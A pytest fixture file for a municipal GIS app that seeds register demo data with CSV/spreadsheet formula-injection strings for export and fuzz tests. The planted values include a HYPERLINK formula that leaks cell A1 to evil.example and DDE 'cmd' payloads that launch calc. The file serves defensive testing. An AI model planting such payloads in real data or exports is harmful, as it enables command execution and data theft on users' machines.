"""A fixture town with every register's demo data and hostile texts in free-text fields,
shared by the export and fuzz tests (tests/db/test_export_formulas.py, test_fuzz_every_url.py)."""

from __future__ import annotations

import pytest

from gis_app.audit.log import audit
from gis_app.audit.models import AuditAction
from layers.models import LandscapeArea, ParkingZone
from tests.conftest import square

PLANTED = {
    "lessee": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "lease_number": "+1+cmd|' /C calc'!A0",
    "taxpayer": "-2+3+cmd|' /C calc'!A0",
    "flat": "\t=1+1",
    "operator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "zone": "=zone()",
    "area": "\r=area()",
    "audit": "=audit()",
    "offer": "＝fullwidth()",
}


@pytest.fixture
def town(make_municipality, make_parcel):
    from registers.housing import demo as housing_demo
    from registers.landscape import demo as landscape_demo
    from registers.leases import demo as lease_demo
    from registers.leases.models import InvestmentOffer, Lease
    from registers.parking import demo as parking_demo
    from registers.taxes import demo as tax_demo
    from registers.taxes.models import Taxpayer

    town = make_municipality()
    for i in range(60):
        make_parcel(str(i + 1), 677_000 + (i % 10) * 25, 211_000 + (i // 10) * 25, size=25,
                    municipality=town)
    ParkingZone.objects.create(municipality=town, code="A", name=PLANTED["zone"],
                               kind=ParkingZone.Kind.ORDINARY, geom=square(677_000, 211_000, 300),
                               source_namespace="test", local_id="zone-A")
    LandscapeArea.objects.create(municipality=town, code="K1", name=PLANTED["area"],
                                 kind="cultural_park", geom=square(677_000, 211_000, 200),
                                 source_namespace="test", local_id="area-K1")
    lease_demo.load_demo(town)
    tax_demo.load_demo(town)
    housing_demo.load_demo(town)
    parking_demo.load_demo(town)
    landscape_demo.load_demo(town)
    from registers.housing.models import ProtectedFlat

    assert Lease.objects.filter(municipality=town).update(
        lessee_name=PLANTED["lessee"], number=PLANTED["lease_number"])
    assert Taxpayer.objects.filter(municipality=town).update(name=PLANTED["taxpayer"])
    assert ProtectedFlat.objects.filter(municipality=town).update(
        address=PLANTED["flat"], operator_name=PLANTED["operator"])
    assert InvestmentOffer.objects.filter(municipality=town).update(title=PLANTED["offer"])
    audit(None, AuditAction.UPDATE, "test", PLANTED["audit"], municipality_id=town.id,
          detail=PLANTED["audit"])
    return town


def _ids(town) -> dict[str, int]:
    """Record ids for the routes' path parameters, by the route's start."""
    from layers.models import Parcel
    from registers.housing.models import ProtectedFlat
    from registers.leases.models import InvestmentOffer, Lease
    from registers.taxes.models import Taxpayer

    def first(model, **kw) -> int:
        obj = model.objects.filter(**kw).order_by("id").first()
        return obj.id if obj else 1

    return {
        "leases/offers/": first(InvestmentOffer, municipality=town),
        "leases/": first(Lease, municipality=town),
        "housing/": first(ProtectedFlat, municipality=town),
        "landscape/areas/": first(LandscapeArea, municipality=town),
        "taxpayer_id": first(Taxpayer, municipality=town),
        "parcel_id": first(Parcel, municipality=town),
        "municipality_id": town.id,
    }


